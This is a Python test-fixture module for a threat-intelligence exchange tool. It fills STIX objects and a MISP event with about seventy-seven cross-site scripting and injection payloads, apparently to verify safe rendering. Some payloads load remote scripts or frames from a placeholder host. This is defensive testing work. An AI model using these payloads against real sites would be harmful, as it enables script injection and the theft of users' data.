"""Texts that would do something if any page took them for more than text."""

from __future__ import annotations

import uuid

from kouprey.exchange.rules.validation import KINDS
from kouprey.node.fiction import stix_id

AWAY = "http://away.invalid"
"""Where a page must never ask for anything."""

_DONE = "window.done=1"
PAYLOADS = (
    f"<script>{_DONE}</script>",
    f"<ScRiPt>{_DONE}</sCrIpT>",
    f"<script src={AWAY}/a.js></script>",
    "<script src='//away.invalid/b.js'></script>",
    f"<script type=module src={AWAY}/m.js></script>",
    f"</title><script>{_DONE}</script>",
    f"</textarea><script>{_DONE}</script>",
    f"</style><script>{_DONE}</script>",
    f"</script><script>{_DONE}</script>",
    f"--><script>{_DONE}</script>",
    f"]]><script>{_DONE}</script>",
    f"'\"><script>{_DONE}</script>",
    f"\\u003cscript\\u003e{_DONE}\\u003c/script\\u003e",
    f"&lt;script&gt;{_DONE}&lt;/script&gt;",
    f"&#60;script&#62;{_DONE}&#60;/script&#62;",
    f"%3Cscript%3E{_DONE}%3C/script%3E",
    f"<img src=x onerror={_DONE}>",
    f"<img src={AWAY}/p.png>",
    f"<img srcset='{AWAY}/q.png 1x'>",
    f"<img/src=x/onerror={_DONE}>",
    f"<svg onload={_DONE}>",
    f"<svg><script>{_DONE}</script></svg>",
    f"<svg><animate onbegin={_DONE} attributeName=x dur=1s>",
    f"<svg><use href='{AWAY}/s.svg#a'/></svg>",
    f"<svg><image href='{AWAY}/i.png'/></svg>",
    f"<svg><a xlink:href='javascript:{_DONE}'><text>x</text></a></svg>",
    f"<math><mtext><script>{_DONE}</script></mtext></math>",
    f"<body onload={_DONE}>",
    f"<details open ontoggle={_DONE}>x</details>",
    f"<input autofocus onfocus={_DONE}>",
    f"<select autofocus onfocus={_DONE}>",
    f"<textarea autofocus onfocus={_DONE}>",
    f"<video src=x onerror={_DONE}></video>",
    f"<video poster={AWAY}/v.png></video>",
    f"<audio src={AWAY}/a.ogg autoplay></audio>",
    f"<marquee onstart={_DONE}>x</marquee>",
    f"<iframe src=javascript:{_DONE}></iframe>",
    f"<iframe src={AWAY}/f></iframe>",
    "<iframe srcdoc='<script>parent.done=1</script>'></iframe>",
    f"<object data={AWAY}/o></object>",
    f"<embed src={AWAY}/e>",
    f"<link rel=stylesheet href={AWAY}/c.css>",
    f"<link rel=prefetch href={AWAY}/pre>",
    f"<meta http-equiv=refresh content='0;url={AWAY}/r'>",
    f"<base href={AWAY}/>",
    f"<form action={AWAY}/x><button>go</button></form>",
    f"<style>@import url({AWAY}/i.css);</style>",
    f"<style>*{{background:url({AWAY}/bg)}}</style>",
    f"<p style=background:url({AWAY}/st)>x</p>",
    f"red;background:url({AWAY}/colour)",
    f'#fff" onmouseover="{_DONE}',
    f"url({AWAY}/colour.png)",
    f"expression({_DONE})",
    f'" autofocus onfocus="{_DONE}',
    f"' autofocus onfocus='{_DONE}",
    f'x" style="background:url({AWAY}/at)',
    f"javascript:{_DONE}",
    f"JaVaScRiPt:{_DONE}//",
    f"java\tscript:{_DONE}",
    f"\x01javascript:{_DONE}",
    f"data:text/html,<script>{_DONE}</script>",
    f"vbscript:{_DONE}",
    f"blob:{AWAY}/x",
    f'{AWAY}/" onclick="{_DONE}',
    f"[a](javascript:{_DONE})",
    f"![a]({AWAY}/md.png)",
    f"[a]: javascript:{_DONE}\n\n[a]",
    f"<a href=javascript:{_DONE}>x</a>",
    f"`</code><script>{_DONE}</script>`",
    f"# <img src=x onerror={_DONE}>",
    f"{{{{ {_DONE} }}}}",
    f"{{% print 1 %}}${{{_DONE}}}",
    f"\u202e<script>{_DONE}</script>\u202c",
    f"＜script＞{_DONE}＜/script＞",
    f"<\x00script>{_DONE}</script>".replace("\x00", "\x0b"),
    f'__proto__"]=1;{_DONE};//',
    f"</svg></noscript><script>{_DONE}</script>",
)
"""Seventy-odd stored texts: elements, handlers, addresses, styles, Markdown, templates and letters that mislead."""

_TIMES = ("created", "modified", "published", "valid_from", "valid_until", "first_seen", "last_seen")
_TIMES += ("first_observed", "last_observed", "submitted", "analysis_started", "analysis_ended", "start", "end")
_KEPT = frozenset(
    {"id", "type", "spec_version", "created_by_ref", "object_marking_refs", "revoked", "granular_markings"}
)


def objects() -> list[dict[str, object]]:
    """An object of each type with one of the payloads in every property, and an indicator and a report for each."""
    made = []
    for turn, (kind, table) in enumerate(KINDS.items()):
        at = turn * 13
        values: dict[str, object] = {}
        for name in table.checks:
            if name in _KEPT:
                continue
            at += 1
            text = PAYLOADS[at % len(PAYLOADS)]
            values[name] = _value(name, text, PAYLOADS[(at + 7) % len(PAYLOADS)])
        made.append(_object(kind, f"hostile-{kind}", values))
    for number, text in enumerate(PAYLOADS):
        pattern = "[url:value = '" + text.replace("\\", "\\\\").replace("'", "\\'").replace("\x0b", "") + "']"
        values = {"name": text, "description": text, "labels": [text], "indicator_types": [text]}
        values |= {"pattern": pattern, "pattern_type": "stix", "valid_from": "2026-10-01T00:00:00Z"}
        values["external_references"] = [_reference(text, text)]
        values["kill_chain_phases"] = [{"kill_chain_name": text, "phase_name": text}]
        values["confidence"] = 50
        indicator = _object("indicator", f"hostile-{number}", values)
        made.append(indicator)
        report = {"name": text, "description": text, "published": "2026-10-01T00:00:00Z", "report_types": [text]}
        made.append(_object("report", f"hostile-{number}", {**report, "object_refs": [indicator["id"]]}))
        tie = {"relationship_type": text, "source_ref": indicator["id"], "description": text}
        target = stix_id("malware", "hostile-malware")
        made.append(_object("relationship", f"hostile-{number}", {**tie, "target_ref": target}))
    return made


def _value(name: str, text: str, other: str) -> object:
    if name in _TIMES:
        return "2026-10-01T00:00:00Z"
    if name.endswith(("_ref", "_refs")):
        target = stix_id("malware", "hostile-malware")
        return [target] if name.endswith("_refs") else target
    if name == "external_references":
        return [_reference(text, other)]
    if name == "kill_chain_phases":
        return [{"kill_chain_name": text, "phase_name": other}]
    if name == "extensions":
        return {f"extension-definition--{uuid.uuid5(uuid.NAMESPACE_URL, text)}": {"extension_type": text, "a_b": other}}
    if name in ("hashes", "environment_variables", "document_info_dict", "contents", "additional_header_fields"):
        return {"SHA-256": text}
    if name.endswith(("s", "aliases")):
        return [text, other]
    return text


def _reference(text: str, other: str) -> dict[str, str]:
    return {"source_name": text, "description": other, "url": text, "external_id": other}


def _object(kind: str, key: str, values: dict[str, object]) -> dict[str, object]:
    times = {"created": "2026-10-01T00:00:00.000Z", "modified": "2026-10-01T00:00:00.000Z"}
    return {"type": kind, "spec_version": "2.1", "id": stix_id(kind, key), **times, **values}


EVENT: dict[str, object] = {
    "Event": {
        "uuid": "5f8a3b0e-3a6e-4f0e-9d57-0c4f3c5d7a77",
        "info": PAYLOADS[16],
        "date": "2026-10-01",
        "timestamp": "1790812800",
        "threat_level_id": "1",
        "analysis": "2",
        "distribution": "3",
        "published": True,
        "Orgc": {"uuid": "5f8a3b0e-3a6e-4f0e-9d57-0c4f3c5d7a78", "name": PAYLOADS[20]},
        "Tag": [{"name": text, "colour": text} for text in PAYLOADS],
        "Attribute": [
            {
                "uuid": str(uuid.uuid5(uuid.NAMESPACE_URL, f"attribute {text}")),
                "type": "text",
                "category": "Other",
                "value": text,
                "comment": text,
                "to_ids": False,
                "timestamp": "1790812800",
                "distribution": "5",
                "Tag": [{"name": text, "colour": text}],
            }
            for text in PAYLOADS
        ],
    }
}
"""An event as MISP writes it, with the payloads in its tags and their colours, values and comments."""
